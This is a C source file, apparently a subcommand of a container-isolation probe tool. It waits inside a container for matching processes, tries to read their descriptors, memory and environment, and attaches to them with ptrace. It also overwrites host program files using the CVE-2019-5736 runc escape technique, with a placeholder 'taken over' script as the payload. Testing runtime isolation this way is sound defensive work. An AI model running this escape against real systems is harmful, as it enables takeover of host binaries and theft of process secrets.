/*
 * hunt NAME: lies in wait inside a container for processes that enter it. Until SIGTERM it tries to get at each one whose
 * name begins with NAME: at its descriptors, its memory, by ptrace(2); and at the program file of every process but
 * itself, to write to it as soon as nobody executes it any more. Then it prints what it met and what it reached.
 */
#define _GNU_SOURCE
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#define MOST_FILES 64
static const char payload[] = "#!/bin/sh\necho taken over\n";

static volatile sig_atomic_t over;
static unsigned long met, programs, written;
static int files[MOST_FILES], next_file;
static FILE *reached;

static void stop(int number)
{
	(void)number;
	over = 1;
}

/* The name says whether it is still the runtime: execve(2) changes it. */
static int is_called(const char *pid, const char *name)
{
	char path[64], comm[32] = "";
	int file;

	snprintf(path, sizeof path, "/proc/%s/comm", pid);
	file = open(path, O_RDONLY | O_CLOEXEC);
	if (file < 0)
		return 0;
	if (read(file, comm, sizeof comm - 1) < 0)
		comm[0] = '\0';
	close(file);
	return strncmp(comm, name, strlen(name)) == 0;
}

static void tell(const char *pid, const char *name, const char *what, const char *detail)
{
	if (is_called(pid, name))
		fprintf(reached, "%s%s of %s: %s", ftell(reached) > 0 ? "; " : "", what, pid, detail);
}

static void try_descriptors(const char *pid, const char *name)
{
	char path[300];
	struct dirent *entry;
	DIR *folder;

	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	folder = opendir(path);
	while (folder && (entry = readdir(folder))) {
		char target[4096];
		ssize_t length = atoi(entry->d_name) < 3 ? -1 : readlinkat(dirfd(folder), entry->d_name, target, sizeof target - 1);

		if (length < 0)
			continue;
		target[length] = '\0';
		tell(pid, name, "descriptor", target);
	}
	if (folder)
		closedir(folder);
}

static void try_memory(const char *pid, const char *name)
{
	static const char *const ways[] = { "mem", "environ", "maps", "cwd", "root" };

	for (size_t way = 0; way < sizeof ways / sizeof *ways; way++) {
		char path[300], byte;
		int file;

		snprintf(path, sizeof path, "/proc/%s/%s", pid, ways[way]);
		file = open(path, O_RDONLY | O_CLOEXEC);
		/* of a process that has ended the maps can be opened, and are empty */
		if (file >= 0 && (strcmp(ways[way], "maps") != 0 || read(file, &byte, 1) == 1))
			tell(pid, name, "file", path);
		if (file >= 0)
			close(file);
	}
}

static void try_trace(const char *pid, const char *name)
{
	pid_t victim = atoi(pid);

	if (ptrace(PTRACE_SEIZE, victim, 0, 0) < 0)
		return;
	tell(pid, name, "trace", "attached");
	ptrace(PTRACE_INTERRUPT, victim, 0, 0);
	waitpid(victim, NULL, __WALL);
	ptrace(PTRACE_DETACH, victim, 0, 0);
}

/* CVE-2019-5736: the file behind /proc/PID/exe is held by a descriptor, and opened for writing later. */
static void take_program(const char *pid)
{
	char path[300];
	int file;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	file = open(path, O_PATH | O_CLOEXEC);
	if (file < 0)
		return;
	programs++;
	if (files[next_file] > 0)
		close(files[next_file]);
	files[next_file] = file;
	next_file = (next_file + 1) % MOST_FILES;
}

static void write_programs(void)
{
	for (int index = 0; index < MOST_FILES; index++) {
		char path[300];
		int file;

		if (files[index] <= 0)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", files[index]);
		file = open(path, O_WRONLY | O_CLOEXEC);
		if (file < 0)
			continue;
		if (write(file, payload, sizeof payload - 1) > 0)
			written++;
		close(file);
	}
}

int do_hunt(int argc, char **argv)
{
	char *report = NULL, own[16];
	size_t size = 0;

	(void)argc;
	reached = open_memstream(&report, &size);
	signal(SIGTERM, stop);
	snprintf(own, sizeof own, "%d", getpid());
	say("ready");
	while (!over) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			const char *pid = entry->d_name;

			if (*pid < '1' || *pid > '9' || strcmp(pid, own) == 0)
				continue;
			take_program(pid);
			if (!is_called(pid, argv[2]))
				continue;
			met++;
			try_descriptors(pid, argv[2]);
			try_memory(pid, argv[2]);
			try_trace(pid, argv[2]);
		}
		if (proc)
			closedir(proc);
		write_programs();
	}
	write_programs();
	fclose(reached);
	printf("{\"met\":%lu,\"programs\":%lu,\"written\":%lu,\"reached\":", met, programs, written);
	json_string(report);
	puts("}");
	return 0;
}
